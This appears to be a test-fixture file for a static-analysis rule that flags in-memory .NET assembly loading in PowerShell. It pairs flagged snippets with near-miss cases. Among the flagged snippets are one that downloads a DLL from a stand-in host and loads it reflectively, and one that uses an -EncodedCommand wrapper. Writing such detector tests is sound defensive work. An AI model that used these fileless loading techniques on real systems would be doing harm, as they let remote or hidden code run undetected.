# file: bad1.ps1
# ruleid: PS015_AssemblyFromMemory
[Reflection.Assembly]::Load([Convert]::FromBase64String($text))

# file: bad2.ps1
# form: variable
$bytes = (New-Object Net.WebClient).DownloadData('https://host.example/a.dll')
# ruleid: PS015_AssemblyFromMemory
[System.Reflection.Assembly]::Load($bytes)

# file: bad3.ps1
[byte[]] $data = Get-Content a.bin -AsByteStream
# ruleid: PS015_AssemblyFromMemory
[AppDomain]::CurrentDomain.Load($data)

# file: bad4.ps1
# ruleid: PS015_AssemblyFromMemory
Add-Type -TypeDefinition $source

# file: bad5.ps1
# form: splatted
$how = @{ TypeDefinition = $text }
# ruleid: PS015_AssemblyFromMemory
Add-Type @how

# file: bad6.ps1
# ruleid: PS015_AssemblyFromMemory
[Reflection.Assembly]::LoadFile('\\server\share\a.dll')

# file: bad7.ps1
# form: wrapped
# ruleid: PS015_AssemblyFromMemory
powershell -NoProfile -EncodedCommand WwBSAGUAZgBsAGUAYwB0AGkAbwBuAC4AQQBzAHMAZQBtAGIAbAB5AF0AOgA6AEwAbwBhAGQAKABbAEMAbwBuAHYAZQByAHQAXQA6ADoARgByAG8AbQBCAGEAcwBlADYANABTAHQAcgBpAG4AZwAoACQAdABlAHgAdAApACkA

# file: bad8.ps1
# form: aliased
Set-Alias compile Add-Type
# ruleid: PS015_AssemblyFromMemory
compile -TypeDefinition $source

# file: good1.ps1
# form: near miss
# ok: PS015_AssemblyFromMemory
Add-Type -AssemblyName System.Web

# file: good2.ps1
# form: near miss
# ok: PS015_AssemblyFromMemory
[Reflection.Assembly]::Load('System.Web')

# file: good3.ps1
# form: near miss
# ok: PS015_AssemblyFromMemory
Add-Type -TypeDefinition 'public class A { public int B; }'

# file: good4.ps1
# form: near miss
# ok: PS015_AssemblyFromMemory
Add-Type -Path $PSScriptRoot/Library.dll
